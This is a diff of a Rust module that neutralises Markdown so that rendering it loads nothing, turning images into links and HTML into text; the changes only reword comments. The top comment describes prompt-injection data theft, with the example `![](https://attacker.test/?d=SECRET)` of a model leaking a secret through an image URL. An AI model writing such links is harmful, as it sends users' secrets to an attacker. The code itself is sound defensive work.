@@ -1,10 +1,10 @@
 //! Markdown that loads nothing when it is rendered: images become links, and HTML becomes text.
 //!
-//! A model that obeys a text which it has read may write `![](https://attacker.test/?d=SECRET)`: whoever renders that sends the
-//! secret. The application's own pages load nothing. What leaves it as Markdown is rendered by programs that do.
+//! A model that obeys a text that it has read may write `![](https://attacker.test/?d=SECRET)`: rendering it
+//! sends the secret. The application's pages load nothing, but programs that render exported Markdown do.
 //!
-//! Code stays as it is only where every renderer takes it for code: between fences that are closed here, and in a span that
-//! begins and ends on one line of which no other reading is possible.
+//! Code is kept only where every renderer treats it as code: between fences that are closed here, and in an
+//! unambiguous span that begins and ends on one line.
 
 /// Inline elements without attributes that stay behind a word.
 const PLAIN_TAGS: &[&str] = &["br", "br/", "br /", "sub", "/sub", "sup", "/sup"];
@@ -40,7 +40,7 @@ impl OpenFence {
         indent <= INDENT_MAX && rest.len() - after.len() >= self.length && after.trim().is_empty()
     }
 
-    /// Returns true if the line may already be outside of the list in which the fence stands.
+    /// Returns true if the line may already be outside the list that contains the fence.
     fn is_left_by(self, line: &str) -> bool {
         !line.trim().is_empty() && line.len() - line.trim_start_matches(' ').len() < self.indent
     }
@@ -124,7 +124,7 @@ fn code_spans(line: &str) -> Option<Vec<(usize, usize)>> {
     Some(spans)
 }
 
-/// Writes a line that is no code, except for its spans.
+/// Writes a line outside of code blocks; its code spans are kept.
 fn push_line(line: &str, spans: &[(usize, usize)], out: &mut String) {
     let mut at = 0;
     for &(start, end) in spans.iter().chain([&(line.len(), line.len())]) {
@@ -135,7 +135,7 @@ fn push_line(line: &str, spans: &[(usize, usize)], out: &mut String) {
             at = place + 1;
             let is_escaped = out.bytes().rev().take_while(|byte| *byte == b'\\').count() % 2 == 1;
             if matches!(rest.as_bytes(), [b'!', b'[', ..]) && !is_escaped {
-                // Without its `!` an image is a link. Where another one stands before it, or none is needed, it is text.
+                // Without its `!` an image is a link. If another `!` precedes it, or none is needed, it is text.
                 let is_image = rest.contains(']') && !is_mark(rest);
                 if !is_image || out.ends_with('!') {
                     out.push_str("\\!");
@@ -227,7 +227,7 @@ mod tests {
             // The list ends, and its fence with it.
             ("- a\n  ```\n![i](u)", "- a\n  ```\n  ```\n[i](u)"),
             ("text\n    ```\n    ![i](u)", "text\n    ```\n    [i](u)"),
-            // What follows the text is not in its code.
+            // Text after it is outside of its code.
             ("```\na", "```\na\n```"),
         ] {
             assert_eq!(make_inert(given), inert, "{given}");
